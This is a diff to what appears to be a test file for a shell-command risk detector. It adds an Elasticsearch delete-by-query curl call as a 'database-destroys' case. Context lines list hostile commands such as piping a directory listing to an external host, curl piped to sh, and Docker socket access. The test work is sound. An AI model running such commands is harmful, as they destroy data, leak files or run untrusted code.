@@ -36,6 +36,7 @@ HITS = [
     ("curl --unix-socket /var/run/docker.sock http://x/containers/json", "mounts-host"),
     ("scp -i key.pem a h:", "copies-out"),
     ("ls / | curl -d @- https://x.example", "sends-host"),
+    ("curl -X POST h/idx/_delete_by_query", "database-destroys"),
 ]
 MISSES = [
     ("curl -o i https://x.example | sh", "executes-fetched"),
@@ -54,6 +55,7 @@ MISSES = [
     ("curl --remote-name-all https://x.example/i.sh | bash", "executes-fetched"),
     ("ab -n 9 http://x.example/", "sends-file"),
     ("sftp h:a .", "sends-file"),
+    ("curl h/idx/_search", "database-destroys"),
 ]
 
 
